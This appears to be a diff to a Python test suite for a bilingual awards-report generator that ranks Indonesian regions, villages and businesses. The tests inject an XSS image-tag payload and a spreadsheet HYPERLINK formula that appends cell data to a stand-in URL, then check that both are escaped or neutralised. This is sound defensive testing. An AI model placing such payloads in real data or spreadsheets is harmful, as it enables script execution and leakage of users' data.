@@ -2,6 +2,7 @@
 offline HTML, failure isolation."""
 from __future__ import annotations
 
+import hashlib
 import json
 import re
 from pathlib import Path
@@ -20,7 +21,7 @@ from paritrana_nb.gaps import cheapest_actions, describe_action, what_it_takes
 from paritrana_nb.messages import t
 from paritrana_nb.methodology import load_methodology
 from paritrana_nb.report.export import find_external_references
-from paritrana_nb.report.pipeline import PROVINCE_NOTEBOOK, run_reports
+from paritrana_nb.report.pipeline import NATIONAL_NOTEBOOK, PROVINCE_NOTEBOOK, run_reports
 from paritrana_nb.report.runner import result_outputs
 from paritrana_nb.reliability import jury_reliability
 from paritrana_nb.season import read_season
@@ -29,13 +30,15 @@ from paritrana_nb.uncertainty import DEFAULT_SEED
 ROOT = Path(__file__).resolve().parents[2]
 PARAMS = ROOT / "params"
 XSS = "<img src=x onerror=alert(1)>"
+FORMULA = '=HYPERLINK("http://x/?d="&A2,"Klik")'
 
 
 def season_with_markup_name(data_dir: Path) -> Path:
-    """The small season, with one regency named like an injection attempt."""
+    """The small season, with one regency named like an injection attempt and one village like a formula."""
     tables = small_season_tables()
     wilayah = tables["wilayah"]
     wilayah.loc[wilayah["kode_wilayah"] == "61.10", "nama"] = XSS
+    tables["desa"].loc[tables["desa"]["kode_desa"] == "61.04.02.2003", "nama"] = FORMULA
     return write_season(data_dir, tables)
 
 
@@ -77,8 +80,10 @@ def test_province_values_match_the_engine(rendered: Path) -> None:
         for kategori, rows in expected[code].items():
             assert [r[:2] for r in podium[kategori]] == [r[:2] for r in rows]
             assert [r[2] for r in podium[kategori]] == pytest.approx([r[2] for r in rows])
-    national = _outputs(folder / "nasional.ipynb")
-    assert [r[:2] for r in national["podium"]["pemprov"]] == [r[:2] for r in expected["nasional"]["pemprov"]]
+    national = _outputs(folder / "nasional.ipynb")  # provincial governments, ranked by zone
+    assert list(national["podium"]) == ["pemprov"] and list(national["podium"]["pemprov"]) == ["Kalimantan"]
+    assert [r[:2] for r in national["podium"]["pemprov"]["Kalimantan"]] == [
+        r[:2] for r in expected["Kalimantan"]["pemprov"]]
 
 
 def test_html_is_offline_escaped_and_code_free(rendered: Path) -> None:
@@ -180,6 +185,9 @@ def test_full_ranking_csv_beside_each_report(rendered: Path) -> None:
     assert sorted(written["id_peserta"]) == sorted(mine["id_peserta"])
     ranks = dict(zip(mine["id_peserta"], mine["peringkat"].astype(float)))
     assert all(ranks[r.id_peserta] == r.peringkat for r in written.itertuples())
+    names = dict(zip(written["id_peserta"], written["nama"]))
+    assert names["61.04.02.2003"] == "'" + FORMULA  # shown as text, never run by a spreadsheet
+    assert names["61.10"] == XSS
 
 
 def test_large_groups_show_finalists_and_top_ranks_only(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -211,6 +219,9 @@ def test_robustness_sections_in_both_languages(rendered: Path) -> None:
                     "report.reliability_title"):
             assert esc(t(key, lang)) in html, (page, key)
         assert esc(t("report.footer_seed", lang, draws=1000, seed=DEFAULT_SEED)) in html
+        notebook = NATIONAL_NOTEBOOK if page.startswith("nasional") else PROVINCE_NOTEBOOK
+        assert esc(t("report.footer_notebook", lang, file=notebook.name,
+                     digest=hashlib.sha256(notebook.read_bytes()).hexdigest())) in html
         assert f'<img alt="{esc(t("report.intervals_title", lang))}" src="data:image/png;base64,' in html
     assert _outputs(folder / "61-kalbar.ipynb")["simulasi"] == {"undian": 1000, "seed": DEFAULT_SEED}
 
@@ -248,3 +259,65 @@ def test_cheapest_actions_and_jury_agreement_read_back(rendered: Path) -> None:
     pemda = jury[jury["kategori"] == "pemda"].iloc[0]
     text = BeautifulSoup(html, "html.parser").get_text()
     assert f"Kendall's W = {pemda['kendall_w']:.2f}; ICC(2,k) = {pemda['icc2k']:.2f}" in text
+
+
+def methodology_with_extra_categories(path: Path) -> Path:
+    """The default methodology plus a sector category carved out of the businesses, a kelurahan category, large
+    businesses ranked by zone, and special awards of every source."""
+    import yaml
+
+    data = yaml.safe_load((PARAMS / "2025" / "metodologi.yaml").read_text(encoding="utf-8"))
+    small = data["kategori"]["bu_kecil_mikro"]
+    desa = data["kategori"]["desa"]
+    extra = {
+        "bu_koperasi": {**small, "label": {"id": "Koperasi <b>", "en": "Cooperatives <b>"},
+                        "peserta": {"tabel": "badan_usaha", "sektor": ["Koperasi"]}, "programmes_expected": ["jkk"]},
+        "kelurahan": {**desa, "label": {"id": "Kelurahan", "en": "Urban wards"},
+                      "peserta": {"tabel": "desa", "jenis": ["kelurahan"]},
+                      "indicators": [i for i in desa["indicators"] if i["id"] in ("cakupan_desa", "perangkat")]},
+    }
+    data["kategori"] = {**extra, **data["kategori"]}
+    data["kategori"]["bu_besar_menengah"]["kelompok"] = "zona"
+    data["penghargaan_khusus"] += [
+        {"id": "sinergi_terbaik", "label": {"id": "Sinergi terbaik", "en": "Best synergy"}, "kategori": "pemda",
+         "aturan": {"aspek": "sinergi", "terbesar": 1}},
+        {"id": "pekerja_terbanyak", "label": {"id": "Pekerja terbanyak", "en": "Most workers"},
+         "kategori": "bu_besar_menengah", "aturan": {"kolom": "jumlah_pekerja", "terbesar": 1}},
+        {"id": "tanpa_tunggakan", "label": {"id": "Tanpa tunggakan", "en": "No arrears"}, "kategori": "bu_koperasi",
+         "aturan": {"indikator": "tertib_iuran", "minimal": 100}},
+    ]
+    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True), encoding="utf-8")
+    return path
+
+
+def test_reports_from_a_methodology_with_extra_categories_zones_and_awards(tmp_path: Path) -> None:
+    season_with_markup_name(tmp_path / "data")
+    methodology = methodology_with_extra_categories(tmp_path / "lain.yaml")
+    outcome = run_reports(2025, tmp_path / "data", PARAMS, tmp_path / "reports", lang="en", metodologi=methodology,
+                          n_jobs=2, progress=False, draws=50)
+    assert not outcome.failed, [r.error for r in outcome.failed]
+    folder = tmp_path / "reports" / "2025"
+    kalbar = (folder / "61-kalbar.en.html").read_text(encoding="utf-8")
+    text = BeautifulSoup(kalbar, "html.parser").get_text()
+    # the cooperative is carved out of the small businesses; the kelurahan has its own category
+    assert "Cooperatives <b>" in text and "Koperasi Pintu Raja" in text and "Urban wards" in text
+    assert "Cooperatives &lt;b&gt;" in kalbar and "Cooperatives <b>" not in kalbar  # labels escaped too
+    assert "Kelurahan Darat Sekip" in text and "Large and medium businesses" not in text.split("Special awards")[0]
+    podium = _outputs(folder / "61-kalbar.en.ipynb")["podium"]
+    assert set(podium) == {"bu_koperasi", "kelurahan", "pemda", "desa"}
+    assert [r[1] for r in podium["bu_koperasi"]] == ["Koperasi Pintu Raja"]
+    assert "Best synergy (Regency/city governments)" in text and "No arrears (Cooperatives <b>)" in text
+    national = (folder / "nasional.en.html").read_text(encoding="utf-8")
+    national_text = BeautifulSoup(national, "html.parser").get_text()
+    assert "Large and medium businesses — Zone Kalimantan" in national_text
+    assert "Provincial governments — Zone Kalimantan" in national_text
+    assert "Most workers (Large and medium businesses)" in national_text and "PT Sawit Makmur" in national_text
+    values = _outputs(folder / "nasional.en.ipynb")
+    assert set(values["podium"]) == {"bu_besar_menengah", "pemprov"}
+    assert values["podium"]["bu_besar_menengah"]["Kalimantan"][0][1] == "PT Sawit Makmur"
+    for key in ("report.intervals_title", "report.sensitivity_title", "report.actions_title"):
+        assert esc(t(key, "en")) in national
+    index = (folder / "index.en.html").read_text(encoding="utf-8")
+    assert "Best synergy" in index and "Most workers" in index and "Cooperatives &lt;b&gt;" in index
+    for page in ("61-kalbar.en.html", "65-kaltara.en.html", "nasional.en.html", "index.en.html"):
+        assert find_external_references((folder / page).read_text(encoding="utf-8")) == [], page
